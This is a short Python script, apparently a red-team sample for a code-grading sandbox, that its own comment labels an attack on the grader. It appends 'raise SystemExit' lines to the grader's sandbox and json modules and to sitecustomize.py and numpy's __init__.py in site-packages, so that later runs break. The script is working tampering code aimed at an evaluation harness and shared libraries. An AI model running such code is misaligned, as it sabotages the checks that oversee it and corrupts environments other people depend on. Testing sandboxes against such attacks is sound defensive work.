# Attack: corrupt the grader's own code and site-packages for the next run.
import json
import os
import numpy

_T = json.load(open("target.txt"))
_SITE = os.path.dirname(os.path.dirname(numpy.__file__))
_TARGETS = [
    os.path.join(_T["root"], "grader", "sandbox", "wire.py"),
    os.path.join(_T["root"], "grader", "json.py"),
    os.path.join(_SITE, "sitecustomize.py"),
    os.path.join(_SITE, "numpy", "__init__.py"),
]
errors = []
for _path in _TARGETS:
    try:
        with open(_path, "a") as _f:
            _f.write("\nraise SystemExit('corrupted')\n")
    except OSError as exc:
        errors.append(type(exc).__name__)
with open(_TARGETS[0], "a") as _f:
    _f.write("\nraise SystemExit('corrupted')\n")
